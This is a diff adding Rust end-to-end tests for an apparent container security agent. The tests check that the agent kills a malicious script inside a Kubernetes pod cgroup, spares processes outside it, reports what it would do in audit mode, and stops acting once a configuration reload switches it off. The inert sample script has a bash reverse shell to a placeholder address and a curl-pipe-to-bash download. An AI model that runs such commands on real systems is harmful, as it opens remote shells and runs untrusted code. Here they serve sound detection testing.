@@ -1,0 +1,102 @@
+//! What is done about a malicious script: by rules, in containers, and to nobody else.
+
+use std::{
+    fs,
+    os::unix::process::ExitStatusExt,
+    path::Path,
+    process::{Child, ExitStatus},
+};
+
+use e2e::{
+    cgroup::{Cgroup, enter},
+    node::Node,
+    shell::quiet,
+};
+use serde_json::Value;
+
+const UID: &str = "6b1d3a5e-0c1f-4e6a-9f1b-2f3c4d5e6f70";
+const ID: &str = "00000000000000000000000000000000000000000000000000000000000000c3";
+
+/// Malicious by any model, and inert: `:` runs instead. It waits for a child, and says so if nobody ends it.
+fn attack(name: &str, survived: &Path) -> String {
+    format!(
+        ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/{name} | bash\nsleep 3 & wait; echo {name} > {}",
+        survived.display()
+    )
+}
+
+fn start(text: &str, procs: Option<&Path>) -> Child {
+    let mut command = quiet("/bin/bash");
+    command.args(["-c", text]);
+    if let Some(procs) = procs {
+        enter(&mut command, procs);
+    }
+    command.spawn().expect("a shell")
+}
+
+fn is_killed(status: ExitStatus) -> bool {
+    status.signal() == Some(libc::SIGKILL)
+}
+
+fn property<'a>(findings: &'a [Value], name: &str, key: &str) -> &'a Value {
+    let is_it = |finding: &&Value| {
+        let text = finding["processes"][0]["script"]["contents"].as_str();
+        text.is_some_and(|text| text.contains(&format!("192.0.2.7/{name} ")))
+    };
+    let finding =
+        findings.iter().find(is_it).unwrap_or_else(|| panic!("no finding of {name}: {findings:#?}"));
+    &finding["sourceProperties"][key]
+}
+
+#[test]
+fn a_script_in_a_container_is_killed_and_others_are_left_alone() {
+    let rules = tempfile::NamedTempFile::new().expect("a file");
+    let text = "[[respond]]\naction = \"none\"\nuser = 1\nreason = \"daemons\"\n\
+                [[respond]]\naction = \"kill\"\nmin_score = 0.5\nreason = \"drill\"\n";
+    fs::write(rules.path(), text).expect("rules");
+    let file = rules.path().display().to_string();
+    let node = Node::start(&["--respond", "kill", "--response-rules", &file]).expect("a node");
+    let survived = |name: &str| node.path(&format!("survived-{name}"));
+    let cgroup = Cgroup::make(&format!("kubepods/burstable/pod{UID}/{ID}"));
+    let mut inside = start(&attack("inside", &survived("inside")), Some(&cgroup.procs()));
+    let mut outside = start(&attack("outside", &survived("outside")), None);
+    let mut harmless =
+        start(&format!("sleep 1; echo > {}", survived("harmless").display()), Some(&cgroup.procs()));
+    assert!(is_killed(inside.wait().expect("its end")), "{}", node.log());
+    assert!(outside.wait().expect("its end").success());
+    assert!(harmless.wait().expect("its end").success());
+    assert!(!survived("inside").exists() && survived("outside").exists() && survived("harmless").exists());
+    // Nothing of it is left, the child that it waited for neither.
+    let left = fs::read_to_string(cgroup.procs()).expect("the cgroup");
+    assert_eq!(left, "", "{}", node.log());
+    let findings = node.wait_for(|all| all.len() == 2).expect("findings");
+    assert_eq!(property(&findings, "inside", "Response_Action"), "killed");
+    assert_eq!(
+        property(&findings, "inside", "Response_Processes").as_f64(),
+        Some(2.0),
+        "the shell and its child"
+    );
+    assert_eq!(property(&findings, "inside", "Response_Reason"), "drill");
+    assert_eq!(property(&findings, "outside", "Response_Action"), "none");
+    let outcome = node.finish().expect("an outcome");
+    assert_eq!(outcome.total("responses_total{action=\"killed\"}"), 1);
+}
+
+#[test]
+fn audit_says_what_would_be_done_and_a_reload_switches_it_off() {
+    let config = tempfile::NamedTempFile::with_suffix(".toml").expect("a file");
+    fs::write(config.path(), "respond = \"audit\"\n").expect("a configuration");
+    let file = config.path().display().to_string();
+    let mut node = Node::start(&["--config", &file]).expect("a node");
+    let survived = node.path("survived");
+    let cgroup = Cgroup::make(&format!("kubepods/burstable/pod{UID}/{ID}"));
+    assert!(start(&attack("audited", &survived), Some(&cgroup.procs())).wait().expect("its end").success());
+    assert!(survived.exists());
+    fs::write(config.path(), "respond = \"off\"\n").expect("a configuration");
+    node.reload("configuration read again").expect("a reload");
+    assert!(start(&attack("off", &survived), Some(&cgroup.procs())).wait().expect("its end").success());
+    let findings = node.wait_for(|all| all.len() == 2).expect("findings");
+    assert_eq!(property(&findings, "audited", "Response_Action"), "would_kill");
+    assert_eq!(property(&findings, "off", "Response_Action"), &Value::Null);
+    node.finish().expect("an outcome");
+}
